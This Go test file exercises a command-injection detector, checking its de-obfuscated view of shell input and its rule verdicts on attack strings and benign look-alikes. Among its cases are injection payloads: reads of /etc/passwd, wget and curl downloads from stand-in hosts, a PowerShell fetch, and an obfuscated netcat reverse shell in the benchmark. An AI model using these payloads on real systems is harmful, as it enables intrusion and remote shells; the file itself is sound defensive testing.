package detect

import (
	"strings"
	"testing"
)

// TestShellView checks the grammar's de-obfuscated view of command lines:
// quotes, escapes and expansions resolved the way the shell resolves them.
func TestShellView(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"split quotes", `c'a't /e"t"c/hosts`, "cat /etc/hosts"},
		{"backslashes", `w\h\o\a\m\i`, "whoami"},
		{"carets", `n^e^t u^s^e^r`, "net user"},
		{"empty expansions", `un$@ame -$()a`, "uname -a"},
		{"ifs", `cat${IFS}/etc/hosts;ls$IFS-l`, "cat /etc/hosts;ls -l"},
		{"path substring", `${PATH:0:1}etc${HOME:0:1}hosts`, "/etc/hosts"},
		{"path pattern", `${PATH%%u*}bin${PATH%%u*}id`, "/bin/id"},
		{"default value", `${u:-c}at x`, "cat x"},
		{"ansi-c octal", `$'\165\156\141\155\145' -a`, "uname -a"},
		{"ansi-c hex", `$'\x69\x64'`, "id"},
		{"assigned variables", `a=una;b=me;${a}${b} -a`, "a=una;b=me;uname -a"},
		{"cmd set", `set x=ver&&call %x%`, "set x=ver&&call ver"},
		{"comspec", `%COMSPEC% /c ver`, "cmd.exe /c ver"},
		{"comspec substring", `%ComSpec:~-7,1%md /c ver`, "cmd /c ver"},
		{"class", `/bin/[u]name`, "/bin/uname"},
		{"brace expansion", `{uname,-a}`, "uname -a"},
		{"cmd commas", `cmd,/c,ver`, "cmd /c ver"},
		{"substitution", `echo $(uname -a)`, "echo $(uname -a)"},
		{"comment", `ls # the rest`, "ls "},
		{"code span kept as text", "I ran `ls -la` today", "i ran ls -la today"},
		{"prose", "Tom & Jerry; the sequel", "tom & jerry; the sequel"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			in := []byte(Normalize(c.in))
			_, view, _ := shellScan(make([]byte, 0, len(in)), in, true, c.in)
			if string(view) != c.want {
				t.Errorf("view of %q = %q, want %q", c.in, view, c.want)
			}
		})
	}
}

// TestShellJudge checks the grammar's verdicts on its own examples and on
// benign look-alikes.
func TestShellJudge(t *testing.T) {
	cases := []struct{ in, want string }{
		{"x;hostnamectl --static", "cmdi.separator"},
		{"x|du -sh /", "cmdi.separator"},
		{"$(uname -r)", "cmdi.substitution"},
		{"<(wget -qO- http://198.51.100.2/x)", "cmdi.substitution"},
		{"$(tac<<<'x')", "cmdi.substitution"},
		{"x; env uname", "cmdi.separator"},
		{"u'n'a'm'e", "cmdi.obfuscated"},
		{"/???/u?am?", "cmdi.glob"},
		{"x; ./run.sh", "cmdi.binary_path"},
		{"x | C:\\Tools\\nc64.exe -h", "cmdi.binary_path"},
		{"y && hh.exe", "cmdi.separator"},
		{"Blocked files: setup.exe; update.exe", ""},
		{"A/B test; variant -b wins", ""},
		{"x;iconv -f utf8 /etc/passwd", "cmdi.separator"},
		{"for /l %i in (1,1,3) do ver", "cmdi.windows"},
		{"x; python3 ./exploit.py", "cmdi.interpreter"},
		{"$0 -c 'uname'", "cmdi.interpreter"},
		{"iwr https://198.51.100.7/a -OutFile a.exe", "cmdi.powershell"},
		// benign look-alikes
		{"Mon-Fri 9am-5pm; Sat 10-2", ""},
		{"It fails; check /var/log/app.log please", ""},
		{"Re: bug -- I tried `docker ps -a shows the container as exited`", ""},
		{"/opt/app/config", ""},
		{"../../docs/readme", ""},
		{"see (optional -v flag)", ""},
		{"$(document).ready(init)", ""},
		{"$(this).hide(); $(window).on('x', f)", ""},
		{"x=$(whoami)", "cmdi.substitution"},
		{"127.0.0.1 `sleep 5`", "cmdi.substitution"},
		{"1|cu''rl 198.51.100.3", "cmdi.obfuscated"},
		{"a <(hostid) b", "cmdi.substitution"},
		{"$(CC) -o app main.c; $(OUTDIR)/bin", ""},
		{"Price: $19.99; tax $1.50", ""},
		{"a=1; b=2; c=3", ""},
		{"apples;oranges;pears", ""},
		{"The file is in C:\\Users\\Ana\\cv.docx", ""},
		{"For (each) 50% slice", ""},
		// Ruby's %x() and Perl's qx{}, ANSI-C strings, leading carets
		{"%x(id)", "cmdi.substitution"},
		{"a=%x{uname -a}", "cmdi.substitution"},
		{"qx(whoami)", "cmdi.substitution"},
		{"$'id' -a", "cmdi.obfuscated"},
		{";$'\\x69\\x64'", "cmdi.obfuscated"},
		{"^id", "cmdi.obfuscated"},
		{"x & ^w^h^o^a^m^i", "cmdi.obfuscated"},
		{"50%x(2)", ""},
		{"qxy(1)", ""},
		{"^ this", ""},
		{"^test", ""},
		{"echo $'a\\tb'", ""},
		{"Call `id` to print the user id", ""},
		{"The `whoami` command prints your user", ""},
		{"& call setup.bat", "cmdi.separator"},
		{"& attrib +h c:\\x", "cmdi.separator"},
		{"Please call 555-0100 & ask", ""},
	}
	for _, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			in := []byte(Normalize(c.in))
			h, _, _ := shellScan(make([]byte, 0, len(in)), in, true, c.in)
			if h.rule != c.want {
				t.Errorf("shellScan(%q) = %q (%q), want %q", c.in, h.rule, h.frag, c.want)
			}
		})
	}
}

// TestShellLeadCommand checks the command after the value's first
// separator judged by its shape (an executable-looking word, option-like
// or short bare arguments, then the end or another separator), with the
// prose that puts words after a separator.
func TestShellLeadCommand(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"bare word argument", ";ps aux", "cmdi.separator"},
		{"one-letter argument", ";ip a", "cmdi.separator"},
		{"two bare arguments", "|ip addr show", "cmdi.separator"},
		{"after an address, spaced", "127.0.0.1; ip route", "cmdi.separator"},
		{"option cluster", ";ss -tlnp", "cmdi.separator"},
		{"path then option", "; find / -name \"*.conf\" -exec cat {} \\;", "cmdi.separator"},
		{"dot then options", ";find . -type f", "cmdi.separator"},
		{"options after a number", "1;mysql -u root", "cmdi.separator"},
		{"known command after a word", "x;ps aux", "cmdi.separator"},
		{"numeric option", ";ip -4 a", "cmdi.separator"},
		{"substitution ending the value", "$(ip a)", "cmdi.substitution"},
		{"followed by a separator", ";ps aux;ip a", "cmdi.separator"},
		// prose and data with separators
		{"colon", "ps: see attached", ""},
		{"no separator", "The ip a command shows addresses", ""},
		{"separator after a sentence", "ps aux | grep nginx is what I ran on my box", ""},
		{"letters", "A;B;C", ""},
		{"words", "copy; paste", ""},
		{"words with a bare argument", "copy; paste it", ""},
		{"assignments", "x=1; y=2", ""},
		{"spaced after nothing", "&amp; is an entity", ""},
		{"query string", "&page 2", ""},
		{"number spaced", "1; see you", ""},
		{"tags", "tag1;tag2 tag3", ""},
		{"version", "v1.2;fix bug", ""},
		{"capitals", "10.0.0.1; Primary DB", ""},
		{"long argument", ";see attached", ""},
		{"three bare arguments", ";ip is down now", ""},
		{"header parameter", "text/html; charset=utf-8", ""},
		{"cookie attribute", "max-age=31536000; includeSubDomains; preload", ""},
		{"code span alone", "`npm test`", ""},
		{"substitution in text", "$(see more) below", ""},
		// a word alone after the separator, and the placeholders before it
		{"word alone", ";groups", "cmdi.separator"},
		{"word alone then a comment", "|users #", "cmdi.separator"},
		{"word alone after an address", "8.8.8.8;arch", "cmdi.separator"},
		{"word alone after a file name", "report.txt|whoami", "cmdi.separator"},
		{"word alone after a number", "1|uname", "cmdi.separator"},
		{"number then a list item", "3|cats", ""},
		{"version then a tag", "v2;beta", ""},
		{"placeholder then a word", "x;user", ""},
		{"one-letter placeholder", "x;ip a", "cmdi.separator"},
		{"number then bare arguments", "1|ip route", "cmdi.separator"},
		{"tab after the separator", ";\tip a", "cmdi.separator"},
		{"address spaced before the separator", "127.0.0.1 && ip addr", "cmdi.separator"},
		{"CRLF", "127.0.0.1\r\narch", "cmdi.separator"},
		{"here-string", ";rev<<<'imaohw'", "cmdi.separator"},
		{"cmdlet glued", ";Get-Process | Out-String", "cmdi.powershell"},
		{"word alone after a word", "hi;thanks", ""},
		{"greeting alone", ";thanks", ""},
		{"pronoun argument", ";see you", ""},
		{"adverb argument", "|see more", ""},
		{"number then a sentence", "1;go home", ""},
		{"placeholder then a sentence", "x;see a doctor", ""},
		{"table row", "|col1|col2|", ""},
		{"list", "col1;col2;col3", ""},
		{"initials", "R&D; HR", ""},
		{"initials glued", "Q&As", ""},
		{"second line", "\nthanks", ""},
		{"entity", "&nbsp", ""},
		{"comment glued to the word", "1;uname#", "cmdi.separator"},
		{"comment glued to the argument", "x|ps aux#", "cmdi.separator"},
		{"dotfile argument", "; cat .env", "cmdi.separator"},
		{"backticks glued to text", "x`ip a`", "cmdi.substitution"},
		{"cmdlet after a spaced separator", "; Get-Service", "cmdi.powershell"},
		{"hash in prose", "Apartment #", ""},
		{"code span in a question", "Why does `ls` show nothing?", ""},
		{"backticks after a blank", "see `ip a`", ""},
		{"hyphenated words", "; Get-Well cards for mom", ""},
		{"lone dash argument", ";su -", "cmdi.separator"},
		{"backticks after a separator", ";`which id`", "cmdi.substitution"},
		{"address then a host name", "127.0.0.1 && localhost", ""},
		{"compound word", ";well-known issue", ""},
		{"smiley", "we met at 5pm;-)", ""},
		{"path then a word", "/api/items/;on", ""},
		{"number then a line", "2\ncups flour", ""},
		{"fallback expression", "0||default", ""},
		{"conjunction expression", "a&&isready", ""},
		{"path then a known command", "/api/items/;ps aux", "cmdi.separator"},
		// the grammar of the command after the leading separator
		{"assignment prefix", ";X=1 id", "cmdi.separator"},
		{"assignment prefix spaced", "; LANG=C cat /etc/passwd", "cmdi.separator"},
		{"assignments alone", "x=1; y=2", ""},
		{"lone ampersand spaced", "& echo test", "cmdi.separator"},
		{"lone ampersand then prose", "& so on", ""},
		{"lone ampersand glued", "&page 2", ""},
		{"dashed tool with an option", ";apt-get install -y nmap", "cmdi.separator"},
		{"dashed tool alone", ";ssh-keyscan", "cmdi.separator"},
		{"windows switch after an address", "127.0.0.1 & waitfor /t 5 x", "cmdi.separator"},
		{"known command with a system path", ";tar cf - /etc", "cmdi.separator"},
		{"quoted command word", `;"id"`, "cmdi.separator"},
		{"quoted word after a word", `He said;"id"`, ""},
		{"quoted command word then a URL", `;'curl' http://x.example/a.sh`, "cmdi.separator"},
		{"quoted command word after an address", `127.0.0.1|"whoami"`, "cmdi.separator"},
		{"quoted command word then a host", `1;"nslookup" x.oast.example`, "cmdi.separator"},
		{"quoted command word then a number", `;"sleep" 10`, "cmdi.separator"},
		{"quoted command word spaced from the separator", `127.0.0.1; 'curl' http://x.example/a.sh`, "cmdi.separator"},
		{"quoted word alone spaced from the separator", `1; "whoami"`, ""},
		{"quoted items of a list", `1;"John";"Smith";"Berlin"`, ""},
		{"quoted command names in a list", `"name";"curl";"wget"`, ""},
		{"quoted command word a sentence goes on after", `Hi; "ping" me later`, ""},
		{"quoted command word then a version", `1;"python" 3.12`, ""},
		{"quoted command word then words", `;"curl" is a tool`, ""},
		{"article before the separator", "a|small team", ""},
		{"placeholder letter before the separator", "x|ip route", "cmdi.separator"},
		{"code span leading a sentence", "`whoami` prints the current user", ""},
		{"dot command", ";. /tmp/x", "cmdi.interpreter"},
		// a command closed off by a separator or a comment ending the value
		{"word closed by a spaced separator", "1|groups ;", "cmdi.separator"},
		{"word closed by another separator", "test||arch&", "cmdi.separator"},
		{"command closed after a number", "1&echo pwned ;", "cmdi.separator"},
		{"list with a trailing separator", "red;green;", ""},
		{"spaced item closed", "2; milk ;", ""},
		{"tag closed by a hash", "rock&roll#", ""},
		{"entity", "&copy;", ""},
		{"file name argument", ";unrar x a.rar", "cmdi.separator"},
		{"format in a substitution", "$(printf %s i d)", "cmdi.substitution"},
		{"jQuery selector", "$('#id').hide()", ""},
		{"table row", "| id | name | email |", ""},
		{"pipes glued", "| id |", "cmdi.separator"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			in := []byte(Normalize(c.in))
			h, _, _ := shellScan(make([]byte, 0, len(in)), in, true, c.in)
			if h.rule != c.want {
				t.Errorf("shellScan(%q) = %q (%q), want %q", c.in, h.rule, h.frag, c.want)
			}
			d := mustNew(t, Config{})
			ms := d.Scan(nil, c.in, Input{})
			if c.want == "" && len(ms) != 0 || c.want != "" && !hasRule(ms, c.want) {
				t.Errorf("Scan(%q) = %v, want %q", c.in, ms, c.want)
			}
		})
	}
}

// FuzzShellLex checks the lexer and judge on arbitrary input: no panic,
// a view never longer than the input by more than shellSlack, and tokens
// inside the view.
func FuzzShellLex(f *testing.F) {
	fuzzSeeds(f)
	for _, s := range []string{"c'a't /etc/passwd", "${PATH:0:1}", "$'\\x41\\101'", "%comspec:~-7,1%", "{a,b}", "a=b;$a",
		"for /f %i in ('x') do y", "`a`b`c", "$((1+2))", "x<(y)", "w^h^o", "/bin/[c]at", "${x:-y}", "set a=b&&%a%"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		in := []byte(Normalize(s))
		dst := make([]byte, 0, len(in)+shellSlack)
		h, view, _ := shellScan(dst, in, true, s)
		if len(view) > len(in)+shellSlack {
			t.Fatalf("view longer than input: %q -> %q", in, view)
		}
		if cap(view) > 0 && cap(dst) > 0 && &view[:1][0] != &dst[:1][0] {
			t.Fatalf("view reallocated for %q", in)
		}
		if h.rule != "" && !IsRule(h.rule) {
			t.Fatalf("undeclared rule %q", h.rule)
		}
	})
}

func BenchmarkShellScan(b *testing.B) {
	inputs := []struct{ name, s string }{
		{"clean_1KB", strings.Repeat("Hi! I'm O'Brien; order #123 (2 items) costs $19.99 - see https://example.com/a?b=c&d=e. ", 12)[:1024]},
		{"attack", "x;c'a't${IFS}/e't'c/pa's'swd|$'\\x6e\\x63' -e /bin/sh 198.51.100.1 4444"},
	}
	for _, p := range [...]string{"$(", "'", "${", "`", "{a,", "%a"} {
		inputs = append(inputs, struct{ name, s string }{"worst_" + p + "_1MB", strings.Repeat(p, (1<<20)/len(p))})
	}
	for _, in := range inputs {
		b.Run(in.name, func(b *testing.B) {
			src := []byte(in.s)
			buf := make([]byte, 0, len(src)+shellSlack)
			b.SetBytes(int64(len(src)))
			b.ReportAllocs()
			for b.Loop() {
				shellScan(buf, src, true, in.s)
			}
		})
	}
}

// FuzzJudgeKey: shellScan judging a command with the same judgeKey as the
// last one found clean as clean again returns what judging every command
// returns: the hit, its fragment, the view and whether it resolved
// anything; the value alone and repeated (a storm repeats its commands).
func FuzzJudgeKey(f *testing.F) {
	fuzzSeeds(f)
	for _, s := range []string{"e`", "; ls ", "| id ", "x|id|id", "$(id)", "a;b;c;d;a;b;", "`a`b`c", "concat(../!=php://",
		"'||jndi:=>?>", "; ls -la /tmp ", "&& cat /etc/passwd ", "x;ip a;", "1;ps aux", "$(curl x)", "a=b c;", "*)(uid=*",
		"/bin/sh ", "|| true ", "id;", "cmd /c ", "%COMSPEC%", "`ls`", "<(cat x)", "\ncat x\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, in := range [][]byte{[]byte(Normalize(s)), []byte(Normalize(strings.Repeat(s, 3)))} {
			for _, globs := range []bool{true, false} {
				for _, raw := range []string{"", string(in)} {
					h1, v1, r1 := shellScan(nil, in, globs, raw)
					v1 = append([]byte(nil), v1...)
					noJudgeKey = true
					h2, v2, r2 := shellScan(nil, in, globs, raw)
					noJudgeKey = false
					if h1.rule != h2.rule || string(h1.frag) != string(h2.frag) || string(v1) != string(v2) || r1 != r2 {
						t.Fatalf("shellScan(%q): with judgeKey %q %q %v, judging every command %q %q %v", in, h1.rule, h1.frag, r1, h2.rule, h2.frag, r2)
					}
				}
			}
		}
	})
}
